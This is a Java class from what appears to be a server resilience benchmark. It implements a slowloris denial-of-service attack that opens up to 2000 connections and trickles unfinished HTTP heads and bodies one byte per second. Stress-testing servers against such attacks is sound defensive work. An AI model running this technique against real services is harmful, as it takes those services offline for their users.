package vigie.bench.attack;

import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import java.nio.charset.StandardCharsets;

/** Sends requests byte by byte: heads that never end, and bodies (slowloris). */
final class SlowRequestAttack implements Attack {
    private static final int CONNECTIONS = 2000;
    private static final long BETWEEN_BYTES_MILLIS = 1000;

    @Override
    public void run(AttackContext context) throws InterruptedException {
        String head = context.sockets().get("/") + "X-Slow: ";
        String body = context.sockets().get("/").replace("GET", "POST") + "Content-Length: 1000\r\n\r\n";
        int connections = context.scaled(CONNECTIONS);
        for (int i = 0; i < connections && context.mayOpen(); i++) {
            String begin = i % 2 == 0 ? head : body;
            context.sockets().plain(channel -> trickle(channel, begin));
        }
        context.hold(1);
    }

    private static void trickle(Channel channel, String begin) {
        var unused = channel.writeAndFlush(Unpooled.copiedBuffer(begin, StandardCharsets.US_ASCII));
        RepeatedSend.byteEvery(BETWEEN_BYTES_MILLIS, channel, 'a');
    }
}
